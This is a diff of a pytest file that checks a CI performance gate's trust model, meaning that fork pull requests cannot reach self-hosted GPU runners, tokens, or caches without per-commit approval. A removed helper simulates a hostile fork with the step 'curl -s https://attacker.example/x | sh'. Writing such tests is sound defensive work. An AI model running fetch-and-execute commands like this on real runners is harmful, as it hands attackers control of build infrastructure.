@@ -1,20 +1,13 @@
-"""Runner trust: no fork code on the GPU runners without a per-commit approval.
-
-The shipped workflows are read with a real YAML parser, and where behaviour is at stake their
-`run:` scripts are run the way the runner runs them (`bash --noprofile --norc -eo pipefail`,
-with GITHUB_OUTPUT, GITHUB_EVENT_PATH and the step's `env:` resolved from an event payload)
-against the fake GitHub server of tests/fake_github.py. The `gate trust` commands run as real
-subprocesses.
-
-What GitHub decides, and YAML cannot change, is modelled in one place (`file_github_runs`): for
-`pull_request` (and its review events) GitHub runs the workflow file of the PR's own merge
-commit, which a fork controls; for every other event the file comes from the base repository.
+"""Runner trust, where behaviour is at stake: the shipped workflows' `run:` scripts run the way
+the runner runs them (`bash --noprofile --norc -eo pipefail`, with GITHUB_OUTPUT,
+GITHUB_EVENT_PATH and the step's `env:` resolved from an event payload) against the fake GitHub
+server of support/fake_github.py, and the `gate trust` commands run as real subprocesses.
+unit/test_workflows_trust_static.py reads the same workflows for what their YAML alone decides.
 """
 
 from __future__ import annotations
 
 import base64
-import copy
 import json
 import os
 import re
@@ -24,18 +17,23 @@ import sys
 from pathlib import Path
 
 import pytest
-import yaml
-from compare_helpers import drain_results
-from fake_github import FakeGitHub
-from test_action import Runner, ab_inputs, runner_env, vllm_repo
+from support.action_runner import PR_EVENT, Runner, ab_inputs, action_workspace, runner_env
+from support.action_runner import TOKEN as ACTION_TOKEN
+from support.fake_github import FakeGitHub
+from support.gitrepo import git, init
+from support.paths import REPO_ROOT
+from support.workflows import (
+    PR_WORKFLOWS,
+    WORKFLOWS,
+    gate_checkouts,
+    is_checkout,
+    load,
+    needs,
+    self_hosted_jobs,
+    step,
+)
 
-from gate.results import save_results
-
-ROOT = Path(__file__).resolve().parent.parent
-WORKFLOWS = sorted((ROOT / "workflows").glob("*.yml"))
-PR_WORKFLOWS = ["gate-pr.yml", "gate-matrix.yml"]
 EXPR = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")
-SHA_RE = re.compile(r"[0-9a-f]{40}")
 TOKEN = "ghs_TrustTestToken_0123456789"
 REPO = "octo/vllm"
 FORK = "mallory/vllm"
@@ -43,105 +41,6 @@ SHA_A = "a" * 40
 SHA_B = "b" * 40
 BASE_SHA = "c" * 40
 LABEL = "run-perf-gate"
-
-# Events for which GitHub runs the PR's own copy of the workflow file.
-FILE_FROM_PR_HEAD = {"pull_request", "pull_request_review", "pull_request_review_comment"}
-# Events whose workflow file a fork cannot choose and whose code is trusted or approved.
-TRUSTED_FILE_EVENTS = {"pull_request_target", "workflow_dispatch", "schedule"}
-ALLOWED_SHA_REFS = {
-    "${{ needs.decide.outputs.sha }}",  # the head commit of the approving event
-    "${{ inputs.sha }}",  # the commit a writer dispatched
-    "${{ github.sha }}",  # the default branch's commit of a scheduled run
-}
-
-
-# -- reading the workflows ----------------------------------------------------------------
-def load(name: str | Path) -> dict:
-    return yaml.safe_load((ROOT / "workflows" / name).read_text())
-
-
-def triggers(doc: dict) -> dict:
-    on = doc.get(True, doc.get("on"))  # PyYAML reads `on:` as True
-    return {on: None} if isinstance(on, str) else dict(on)
-
-
-def runs_on_self_hosted(job: dict) -> bool:
-    labels = job.get("runs-on", [])
-    labels = [labels] if isinstance(labels, str) else labels
-    return "self-hosted" in labels
-
-
-def self_hosted_jobs(doc: dict) -> dict[str, dict]:
-    return {name: job for name, job in doc["jobs"].items() if runs_on_self_hosted(job)}
-
-
-def needs(job: dict) -> list[str]:
-    value = job.get("needs", [])
-    return [value] if isinstance(value, str) else list(value)
-
-
-def step(doc: dict, job: str, name: str) -> dict:
-    return next(s for s in doc["jobs"][job]["steps"] if s.get("name") == name)
-
-
-def is_checkout(s: dict) -> bool:
-    return str(s.get("uses", "")).startswith("actions/checkout@")
-
-
-def runs(job: dict, command: str) -> list[dict]:
-    return [s for s in job["steps"] if command in str(s.get("run", ""))]
-
-
-# -- the approval path, per kind of trigger -----------------------------------------------
-def approval_problems(doc: dict, name: str, event: str) -> list[str]:
-    """Why self-hosted job `name` could run without approval for `event` ([] when it can't)."""
-    job = doc["jobs"][name]
-    if event == "pull_request_target":
-        decide = doc["jobs"].get("decide")
-        problems = []
-        if decide is None or "decide" not in needs(job):
-            return ["does not need the decide job"]
-        if "needs.decide.outputs.run == 'true'" not in str(job.get("if", "")):
-            problems.append("runs without decide's run=true")
-        if job.get("environment") != "${{ needs.decide.outputs.environment }}":
-            problems.append("is not gated by decide's environment")
-        checks = runs(decide, "gate trust check-environment perf-gate-fork")
-        if not checks or checks[0].get("if") != "steps.decide.outputs.check-environment == 'true'":
-            problems.append("decide does not check the fork environment's reviewers")
-        return problems
-    default_branch_only = (
-        "github.ref == format('refs/heads/{0}', github.event.repository.default_branch)"
-    )
-    if event in ("schedule", "workflow_dispatch") and job.get("if") == default_branch_only:
-        return []  # the default branch's own code
-    if event == "workflow_dispatch":
-        check = doc["jobs"].get("check")
-        if check is None or "check" not in needs(job):
-            return ["does not need the check job"]
-        if not runs(check, "gate trust check-head"):
-            return ["the check job does not check the PR's head"]
-        return []
-    if event == "schedule":
-        return ["is not limited to the default branch"]
-    return [f"runs on {event}, whose workflow file or code is not approved"]
-
-
-def fork_edit(doc: dict) -> dict:
-    """What a fork's PR does to its own copy of the workflow: drop every `if:`, `needs:` and
-    `environment:` and add its own job on the GPU runner."""
-    evil = copy.deepcopy(doc)
-    for job in evil["jobs"].values():
-        for key in ("if", "needs", "environment"):
-            job.pop(key, None)
-    evil["jobs"]["mine"] = {
-        "runs-on": ["self-hosted", "gpu", "a100"],
-        "steps": [{"run": "curl -s https://attacker.example/x | sh"}],
-    }
-    return evil
-
-
-def file_github_runs(event: str, base_file: dict, pr_file: dict) -> dict:
-    return pr_file if event in FILE_FROM_PR_HEAD else base_file
 
 
 # -- running a step's script like the runner ----------------------------------------------
@@ -187,7 +86,7 @@ def run_step(
     }
     env = {
         "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
-        "PYTHONPATH": str(ROOT),
+        "PYTHONPATH": str(REPO_ROOT),
         "HOME": os.environ.get("HOME", str(tmp_path)),
         "LANG": "C.UTF-8",
         "GITHUB_EVENT_NAME": event_name,
@@ -253,7 +152,7 @@ def fake():
 def gate_cli(*args: str, fake: FakeGitHub, token: str = TOKEN) -> subprocess.CompletedProcess:
     env = {
         **os.environ,
-        "PYTHONPATH": str(ROOT),
+        "PYTHONPATH": str(REPO_ROOT),
         "GITHUB_API_URL": fake.url,
         "GITHUB_REPOSITORY": REPO,
         "GITHUB_TOKEN": token,
@@ -262,46 +161,6 @@ def gate_cli(*args: str, fake: FakeGitHub, token: str = TOKEN) -> subprocess.Com
     return subprocess.run(
         [sys.executable, "-m", "gate.cli", *args], env=env, capture_output=True, text=True
     )
-
-
-# == 1. the file that decides is the base branch's ========================================
-def test_self_hosted_jobs_run_only_on_events_whose_workflow_file_is_trusted():
-    for path in WORKFLOWS:
-        doc = yaml.safe_load(path.read_text())
-        if not self_hosted_jobs(doc):
-            continue
-        untrusted = set(triggers(doc)) - TRUSTED_FILE_EVENTS
-        assert not untrusted, f"{path.name}: self-hosted jobs under {untrusted}"
-
-
-@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
-def test_a_fork_pr_that_edits_the_workflow_reaches_no_gpu_runner(path):
-    """The attack: the fork's PR rewrites its copy of the workflow (no label `if:`, no
-    environment, its own self-hosted job). Whatever file GitHub runs for each trigger, every
-    self-hosted job in it must still need an approval the fork cannot give."""
-    shipped = yaml.safe_load(path.read_text())
-    forked = fork_edit(shipped)
-    for event in triggers(shipped):
-        doc = file_github_runs(event, shipped, forked)
-        unapproved = {
-            name: problems
-            for name in self_hosted_jobs(doc)
-            if (problems := approval_problems(doc, name, event))
-        }
-        assert not unapproved, f"{path.name} on {event}: {unapproved}"
-
-
-def test_the_pr_workflows_run_on_pull_request_target_for_the_default_branch():
-    for name in PR_WORKFLOWS:
-        on = triggers(load(name))
-        assert list(on) == ["pull_request_target"], name
-        assert on["pull_request_target"]["types"] == [
-            "opened",
-            "synchronize",
-            "reopened",
-            "labeled",
-        ]
-        assert on["pull_request_target"]["branches"] == ["main"]
 
 
 # == 2. approval per commit ===============================================================
@@ -517,76 +376,6 @@ def test_check_environment_warns_about_self_review_and_admin_bypass(fake):
     assert "Prevent self-review" in proc.stderr and "bypass" in proc.stderr
 
 
-def test_decide_job_may_read_environments():
-    for name in PR_WORKFLOWS:
-        assert load(name)["jobs"]["decide"]["permissions"] == {"actions": "read"}
-
-
-# == 1b. what the GPU job holds ===========================================================
-def test_no_self_hosted_job_holds_a_write_token_secrets_or_a_cache():
-    for path in WORKFLOWS:
-        doc = yaml.safe_load(path.read_text())
-        assert "secrets" not in json.dumps(doc.get("env", {})), path.name
-        for name, job in self_hosted_jobs(doc).items():
-            where = f"{path.name}:{name}"
-            assert job.get("permissions") == {"contents": "read"}, where  # explicit, read-only
-            text = json.dumps(job)
-            assert "secrets." not in text and "secrets: inherit" not in text, where
-            assert "github.token" not in text and "GITHUB_TOKEN" not in text, where
-            for s in job["steps"]:
-                uses = str(s.get("uses", ""))
-                assert not uses.startswith(("actions/cache@", "actions/cache/")), where
-                assert "cache" not in (s.get("with") or {}), where
-                if is_checkout(s):
-                    assert s["with"]["persist-credentials"] is False, where
-
-
-def test_jobs_that_hold_write_tokens_never_run_the_code_under_test():
-    for path in WORKFLOWS:
-        doc = yaml.safe_load(path.read_text())
-        for name, job in doc["jobs"].items():
-            perms = job.get("permissions", doc.get("permissions", {}))
-            if "write" not in perms.values():
-                continue
-            assert not runs_on_self_hosted(job), f"{path.name}:{name}"
-            for s in job["steps"]:
-                if is_checkout(s) and "repository" not in s["with"]:
-                    # only the nightly's commit of the default branch, to commit baselines
-                    assert s["with"]["ref"] == "${{ github.sha }}", f"{path.name}:{name}"
-                assert s.get("uses") != "./.gate", f"{path.name}:{name}"
-
-
-# == 1c. one exact commit =================================================================
-def test_checkouts_of_the_code_under_test_use_exact_commit_shas():
-    for path in WORKFLOWS:
-        doc = yaml.safe_load(path.read_text())
-        for name, job in self_hosted_jobs(doc).items():
-            code = [s for s in job["steps"] if is_checkout(s) and "repository" not in s["with"]]
-            assert code, f"{path.name}:{name} checks out nothing"
-            for s in code:
-                ref = s["with"].get("ref")
-                if "sparse-checkout" in s["with"]:  # the base commit's baselines, data only
-                    assert ref == "${{ github.event.pull_request.base.sha }}"
-                    continue
-                assert ref in ALLOWED_SHA_REFS, f"{path.name}:{name}: ref {ref!r}"
-                confirm = [c for c in job["steps"] if "git rev-parse HEAD" in str(c.get("run"))]
-                if ref != "${{ github.sha }}":
-                    assert confirm, f"{path.name}:{name}: nothing confirms the checked-out commit"
-
-
-def git(repo: Path, *args: str) -> str:
-    env = {
-        **os.environ,
-        "GIT_AUTHOR_NAME": "t",
-        "GIT_AUTHOR_EMAIL": "t@e",
-        "GIT_COMMITTER_NAME": "t",
-        "GIT_COMMITTER_EMAIL": "t@e",
-    }
-    return subprocess.run(
-        ["git", "-C", str(repo), *args], check=True, capture_output=True, text=True, env=env
-    ).stdout.strip()
-
-
 @pytest.mark.parametrize(
     ("workflow", "job", "step_name", "needs_or_inputs"),
     [
@@ -598,9 +387,7 @@ def git(repo: Path, *args: str) -> str:
 def test_the_gpu_job_stops_when_the_checkout_is_not_the_approved_commit(
     workflow, job, step_name, needs_or_inputs, tmp_path
 ):
-    repo = tmp_path / "repo"
-    repo.mkdir()
-    git(repo, "init", "-q")
+    repo = init(tmp_path / "repo")
     git(repo, "commit", "-q", "--allow-empty", "-m", "x")
     head = git(repo, "rev-parse", "HEAD")
     for sha, code in [(head, 0), (SHA_B, 1)]:
@@ -612,20 +399,6 @@ def test_the_gpu_job_stops_when_the_checkout_is_not_the_approved_commit(
         proc, _ = run_step(load(workflow), job, step_name, tmp_path, cwd=repo, **given)
         assert proc.returncode == code, proc.stdout + proc.stderr
     assert f"checked out {head}, not the" in proc.stdout
-
-
-# == 3. reruns measure the dispatched commit, while it is the PR's head ==================
-def test_rerun_takes_a_required_sha_and_checks_out_exactly_it():
-    doc = load("gate-rerun.yml")
-    inputs = triggers(doc)["workflow_dispatch"]["inputs"]
-    assert inputs["sha"]["required"] is True and inputs["sha"]["type"] == "string"
-    assert "ref" not in inputs  # no branch names
-    measure = doc["jobs"]["measure"]
-    assert needs(measure) == ["check"]
-    (code,) = [s for s in measure["steps"] if is_checkout(s) and "repository" not in s["with"]]
-    assert code["with"]["ref"] == "${{ inputs.sha }}"
-    post = step(doc, "comment", "Post the comment")
-    assert '--expect-head-sha "$SHA"' in post["run"] and post["env"]["SHA"] == "${{ inputs.sha }}"
 
 
 def test_rerun_fails_before_the_gpu_when_the_pr_head_moved(fake, tmp_path):
@@ -678,22 +451,15 @@ def test_check_head_rejects_a_short_sha(fake):
 
 # == 4. tokens: publish only when commenting, none on command lines, the gate pinned ======
 @pytest.fixture
-def action_workspace(tmp_path: Path) -> Path:
-    ws = tmp_path / "workspace"
-    ws.mkdir()
-    vllm_repo(ws)
-    stored = tmp_path / "stored"
-    stored.mkdir()
-    save_results(drain_results([233.0, 232.0, 234.0], label="base"), stored / "base.json")
-    save_results(drain_results([233.5, 231.5, 233.0]), stored / "healthy.json")
-    return ws
+def workspace(tmp_path: Path) -> Path:
+    return action_workspace(tmp_path)
 
 
 @pytest.mark.parametrize("comment", ["false", "true"])
-def test_action_passes_the_token_only_to_a_commenting_publish(comment, tmp_path, action_workspace):
+def test_action_passes_the_token_only_to_a_commenting_publish(comment, tmp_path, workspace):
     """Every `gate` the action runs is logged with whether GITHUB_TOKEN reached it."""
     with FakeGitHub() as fake:
-        fake.good_tokens.add("ghs_ActionTestToken_987654321")
+        fake.good_tokens.add(ACTION_TOKEN)
         shims = tmp_path / "shims"
         shims.mkdir()
         log = tmp_path / "gate-calls.log"
@@ -704,53 +470,16 @@ def test_action_passes_the_token_only_to_a_commenting_publish(comment, tmp_path,
             f'exec {real} "$@"\n'
         )
         (shims / "gate").chmod(0o755)
-        env = runner_env(
-            tmp_path,
-            fake,
-            "pull_request",
-            {"action": "synchronize", "number": 7, "pull_request": {"number": 7}},
-        )
+        env = runner_env(tmp_path, fake, "pull_request", PR_EVENT)
         env["PATH"] = f"{shims}{os.pathsep}{env['PATH']}"
-        env["PYTHONPATH"] = str(ROOT)
+        env["PYTHONPATH"] = str(REPO_ROOT)
         inputs = ab_inputs(tmp_path, "healthy", comment=comment)
-        result = Runner(action_workspace, inputs, env).run()
+        result = Runner(workspace, inputs, env).run()
     assert result.outputs["verdict"] == "pass"
     calls = dict(line.split(" token=") for line in log.read_text().splitlines())
     assert calls.pop("publish") == ("set" if comment == "true" else "")
     assert calls and set(calls.values()) == {""}, calls  # compare, hunks, report: never
     assert bool(fake.comments.get(7)) == (comment == "true")
-
-
-def test_action_gives_no_measuring_step_a_token():
-    steps = yaml.safe_load((ROOT / "action.yml").read_text())["runs"]["steps"]
-    for s in steps:
-        env = json.dumps(s.get("env") or {})
-        if s.get("id") == "publish":
-            assert s["env"]["GITHUB_TOKEN"] == (
-                "${{ inputs.comment == 'true' && inputs.github-token || '' }}"
-            )
-            continue
-        assert "token" not in env.lower(), s["name"]
-
-
-def gate_checkouts(job: dict) -> list[int]:
-    return [
-        i
-        for i, s in enumerate(job["steps"])
-        if is_checkout(s) and s["with"].get("repository") == "${{ env.GATE_REPOSITORY }}"
-    ]
-
-
-def test_every_workflow_pins_the_gate_and_checks_the_pin_before_checking_it_out():
-    for path in WORKFLOWS:
-        doc = yaml.safe_load(path.read_text())
-        assert SHA_RE.fullmatch(str(doc["env"]["GATE_REF"])), path.name
-        for name, job in doc["jobs"].items():
-            for i in gate_checkouts(job):
-                before = [s for s in job["steps"][:i] if "GATE_REF" in str(s.get("run", ""))]
-                assert before, f"{path.name}:{name}: the gate is checked out unchecked"
-                # it runs whenever the checkout does
-                assert before[-1].get("if") in (None, job["steps"][i].get("if")), (path, name)
 
 
 PIN_CASES = [
@@ -766,7 +495,7 @@ PIN_CASES = [
 
 @pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
 def test_the_pin_check_fails_unless_gate_ref_is_a_full_sha(path, tmp_path):
-    doc = yaml.safe_load(path.read_text())
+    doc = load(path)
     checked = 0
     for name, job in doc["jobs"].items():
         for s in job["steps"]:
@@ -787,8 +516,8 @@ def test_nightly_push_keeps_the_token_off_command_lines_and_uses_the_server_url(
     token = "ghs_NightlySecret_abcdefghijklmnop"
     encoded = base64.b64encode(f"x-access-token:{token}".encode()).decode()
     origin, work = tmp_path / "origin.git", tmp_path / "work"
-    subprocess.run(["git", "init", "-q", "--bare", str(origin)], check=True)
-    subprocess.run(["git", "clone", "-q", str(origin), str(work)], check=True)
+    git(tmp_path, "init", "-q", "--bare", str(origin))
+    git(tmp_path, "clone", "-q", str(origin), str(work))
     git(work, "commit", "-q", "--allow-empty", "-m", "base")
     git(work, "push", "-q", "origin", "HEAD:refs/heads/main")
     baselines = work / ".github/perf-gate-baselines"
@@ -829,11 +558,3 @@ def test_nightly_push_keeps_the_token_off_command_lines_and_uses_the_server_url(
     assert "config=http.https://ghe.example.test/.extraheader" in text
     assert "gh-host=ghe.example.test" in text
     assert "github.com" not in text
-
-
-def test_no_workflow_script_hard_codes_the_github_host():
-    for path in WORKFLOWS:
-        doc = yaml.safe_load(path.read_text())
-        for job in doc["jobs"].values():
-            for s in job["steps"]:
-                assert "https://github.com" not in str(s.get("run", "")), path.name
